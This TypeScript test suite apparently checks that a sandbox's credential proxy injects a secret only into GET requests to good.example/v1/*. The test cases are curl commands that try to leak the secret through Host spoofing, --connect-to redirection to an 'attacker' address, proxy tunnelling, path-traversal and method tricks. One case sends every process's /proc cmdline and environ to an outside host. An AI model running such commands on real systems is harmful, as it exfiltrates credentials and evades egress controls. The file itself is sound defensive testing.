// A secret that egress puts into requests to one server: whatever the sandbox does, it goes nowhere else. It is carried as a token, so that
// the recorders see it in whatever frame it is.

import { TOKEN_PREFIX } from './internet.ts'
import type { Outcome } from './outcome.ts'
import type { World } from './world.ts'

/** Beyond the numbers of the table and of the races. */
const NUMBER = 480
const SECRET = `${TOKEN_PREFIX}${NUMBER}x`
const ASK = 'curl -sS -o /dev/null -m 3 --path-as-is'

type Theft = { id: string; what: string; command: string }

export const THEFTS: readonly Theft[] = [
  {
    id: 'C1-other-address',
    what: 'the bound name at the address of another server',
    command: `${ASK} --connect-to good.example:80:203.0.113.11:80 http://good.example/v1/x`,
  },
  {
    id: 'C1-evil-address',
    what: 'the bound name at an address of the attacker',
    command: `${ASK} --connect-to good.example:80:192.0.3.249:80 http://good.example/v1/x`,
  },
  {
    id: 'C1-other-host',
    what: 'another Host at the address of the bound name',
    command: `${ASK} -H 'Host: other.example' http://good.example/v1/x`,
  },
  {
    id: 'C1-proxy-other',
    what: 'the bound name as Host of a tunnel to another server',
    command: `${ASK} -p -x http://$GATEWAY:3128 -H 'Host: good.example' http://other.example/v1/x`,
  },
  ...[
    '/v1/../admin',
    '/v1/%2e%2e/admin',
    '/v1/..%2fadmin',
    '/v1//../../admin',
    '/V1/x',
    '/v1;x/../admin',
    '/admin',
  ].map((path, index) => ({
    id: `C6-path-${index + 1}`,
    what: `the path ${path}, which is bound as /v1/*`,
    command: `${ASK} 'http://good.example${path}'`,
  })),
  {
    id: 'C1-method',
    what: 'a method that is not bound',
    command: `${ASK} -X POST http://good.example/v1/x`,
  },
  {
    id: 'C1-trace',
    what: 'TRACE, which sends back what it was sent',
    command: `${ASK} -X TRACE http://good.example/v1/x`,
  },
  {
    id: 'C1-port',
    what: 'a port that is not bound',
    command: `${ASK} http://good.example:8080/v1/x`,
  },
  {
    id: 'C5-inside',
    what: 'the memory of nobody within: arguments and environments',
    command: `cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2>/dev/null | tr '\\0' ' ' | curl -sS -m 3 -T - http://203.0.113.20/`,
  },
]

/** The secret goes where it belongs, and then nowhere else. */
export async function runThefts({ product, arrivals }: World): Promise<Outcome[]> {
  const made = await product.create(
    {
      defaultAction: 'deny',
      egress: ['good.example', 'other.example', '203.0.113.20'].map((target) => ({
        action: 'allow',
        target,
      })),
    },
    { credentialProxy: { enabled: true } },
  )
  const asked = await product.call('GET', `/sandboxes/${made.id}/endpoints/18080`)
  const { endpoint, headers } = asked as { endpoint: string; headers: Record<string, string> }
  const vault = {
    credentials: [{ name: 'secret', source: { value: SECRET } }],
    bindings: [
      {
        name: 'only',
        match: { hosts: ['good.example'], schemes: ['http'], methods: ['GET'], paths: ['/v1/*'] },
        auth: { type: 'bearer', credential: 'secret' },
      },
    ],
  }
  const written = await fetch(`http://${endpoint}/credential-vault`, {
    method: 'POST',
    headers: { ...headers, 'content-type': 'application/json' },
    body: JSON.stringify(vault),
    signal: AbortSignal.timeout(10_000),
  })
  const count = async () => (await arrivals())[NUMBER]?.count ?? 0
  const outcomes: Outcome[] = []
  const shown = written.ok ? '' : await written.text()
  await product.run(made.id, `${ASK} http://good.example/v1/x; ${ASK} http://other.example/`)
  let before = await count()
  outcomes.push({
    id: 'C-control-injected',
    what: 'control: the secret arrives where it belongs',
    seen: `the vault was answered ${written.status}${shown}`,
    arrived: before > 0,
    ...(before === 0 && { wrong: 'it was to arrive' }),
  })
  for (const { id, what, command } of THEFTS) {
    const text = await product.run(made.id, `GATEWAY=$(ip route show default | cut -d' ' -f3); ${command}`)
    const now = await count()
    const arrived = now > before
    before = now
    outcomes.push({
      id,
      what,
      seen: text.trim().slice(0, 90),
      arrived,
      ...(arrived && { wrong: 'the secret has gone there' }),
    })
  }
  await product.remove(made.id)
  return outcomes
}
